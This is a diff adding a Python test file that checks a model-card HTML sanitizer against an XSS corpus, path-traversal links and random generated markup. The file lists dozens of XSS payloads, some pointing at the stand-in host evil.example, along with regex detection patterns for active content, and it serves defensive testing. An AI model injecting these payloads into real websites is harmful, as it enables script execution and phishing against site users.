@@ -1,0 +1,124 @@
+"""The model-card sanitizer (web/markup.py) against an XSS corpus and random markup: whatever a card
+holds, the HTML it becomes runs nothing, loads nothing active and cannot restyle the page, while the
+HTML real cards use survives (issue 14)."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from aicommons.web.markup import RepoLinks, markdown_to_safe_html
+
+XSS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=\"x\" OnErRoR=\"alert(1)\">",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    "<iframe src=\"javascript:alert(1)\"></iframe>",
+    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
+    "<a href=\"&#106;avascript:alert(1)\">x</a>",
+    "<a href=\"java\tscript:alert(1)\">x</a>",
+    "<a href=\" javascript:alert(1)\">x</a>",
+    "<a href=\"vbscript:msgbox(1)\">x</a>",
+    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
+    "[x](javascript:alert(1))",
+    "[x](  javascript:alert(1) )",
+    "![x](javascript:alert(1))",
+    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
+    "<object data=\"x.swf\"></object>", "<embed src=\"x.swf\">",
+    "<form action=\"https://evil.example\"><input name=p><button>go</button></form>",
+    "<button formaction=\"javascript:alert(1)\">x</button>",
+    "<div style=\"position:fixed;inset:0;background:url(javascript:alert(1))\">x</div>",
+    "<style>body{display:none}</style>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+    "<base href=\"https://evil.example/\">",
+    "<details open ontoggle=alert(1)><summary>x</summary></details>",
+    "<p class=\"notice\">Your session expired, sign in again</p>",
+    "<span class=\"hl-k badge\">x</span>",
+    "<a id=\"main\" href=\"#main\">hijack the skip link</a>",
+    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
+    "<img src=x:alert(1) onerror=eval(src)>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<!--<img src=x onerror=alert(1)>-->",
+    "<template><script>alert(1)</script></template>",
+    "<video><source onerror=alert(1)></video>",
+    "<a href=\"https://ok.example\" target=\"_blank\">x</a>",
+    "```html\n<script>alert(1)</script>\n```",
+    "`<script>alert(1)</script>`",
+]
+ACTIVE = [
+    re.compile(r"<\s*(script|iframe|object|embed|form|input|button|style|link|meta|base|svg|math|template|body)\b", re.I),
+    re.compile(r"\son[a-z]+\s*=", re.I),
+    re.compile(r"(href|src|action|formaction|background|srcdoc)\s*=\s*\"?\s*(javascript|vbscript|data):", re.I),
+    re.compile(r"\sstyle\s*=", re.I),
+    re.compile(r"\starget\s*=", re.I),
+]
+LINKS = RepoLinks("/alice/model", "main")
+
+
+def inert(html: str) -> list[str]:
+    problems = [pattern.pattern for pattern in ACTIVE if pattern.search(html)]
+    for cls in re.findall(r'class="([^"]*)"', html):
+        problems += [f"class {c}" for c in cls.split() if not re.match(r"^(hl|hl-[a-z0-9]+|language-[\w+-]+)$", c)]
+    problems += [f"id {i}" for i in re.findall(r'\sid="([^"]*)"', html) if not i.startswith("user-content-")]
+    return problems
+
+
+@pytest.mark.parametrize("payload", XSS)
+def test_the_xss_corpus_is_inert(payload):
+    for html in (markdown_to_safe_html(payload), markdown_to_safe_html(payload, LINKS),
+                 markdown_to_safe_html(f"# Card\n\n{payload}\n\ntext", LINKS)):
+        assert not inert(html), (payload, html)
+
+
+def test_what_real_cards_use_survives():
+    html = markdown_to_safe_html(
+        '<p align="center"><img src="assets/logo.png" alt="logo" width="200"></p>\n\n'
+        '[![License](https://img.shields.io/badge/license-mit-blue)](LICENSE)\n\n'
+        '<details><summary>Results</summary>\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n</details>\n\n'
+        'H<sub>2</sub>O and x<sup>2</sup>, <kbd>Ctrl</kbd>\n\n```python\nprint(1)\n```\n', LINKS)
+    assert '<p align="center"><img src="/alice/model/resolve/main/assets/logo.png" alt="logo" width="200"></p>' in html
+    assert 'href="/alice/model/blob/main/LICENSE"' in html and 'src="https://img.shields.io/badge/license-mit-blue"' in html
+    assert "<details><summary>Results</summary>" in html and "<table" in html and "<td>1</td>" in html
+    assert "<sub>2</sub>" in html and "<sup>2</sup>" in html and "<kbd>Ctrl</kbd>" in html
+    assert '<span class="hl-nb">print</span>' in html
+    assert 'rel="noopener noreferrer nofollow ugc"' in html
+
+
+def test_relative_links_cannot_climb_out_of_the_repo():
+    html = markdown_to_safe_html("[a](../../../etc/passwd) [b](sub/../c.md) ![c](/static/x.png)", LINKS)
+    assert "etc/passwd" not in html
+    assert 'href="/alice/model/blob/main/c.md"' in html
+    assert 'src="/static/x.png"' in html  # site-absolute paths stay on this hub
+
+
+TAGS = st.sampled_from(["script", "img", "a", "svg", "iframe", "div", "p", "details", "style", "table", "b"])
+ATTRS = st.sampled_from(["onerror", "onload", "href", "src", "style", "class", "id", "align", "formaction"])
+VALUES = st.sampled_from(["javascript:alert(1)", "x", "notice", "main", "data:text/html,x", "alert(1)", "center"])
+
+
+@st.composite
+def markup(draw):
+    parts = []
+    for _ in range(draw(st.integers(1, 8))):
+        tag = draw(TAGS)
+        attrs = " ".join(f'{draw(ATTRS)}="{draw(VALUES)}"' for _ in range(draw(st.integers(0, 3))))
+        parts.append(f"<{tag} {attrs}>{draw(st.text(max_size=10))}</{tag}>" if draw(st.booleans())
+                     else f"[{draw(st.text(max_size=5))}]({draw(VALUES)})")
+    return draw(st.sampled_from(["", "# t\n\n", "> q\n\n"])) + "\n".join(parts)
+
+
+@settings(max_examples=300, deadline=None)
+@given(markup())
+def test_random_markup_stays_inert(text):
+    assert not inert(markdown_to_safe_html(text, LINKS))
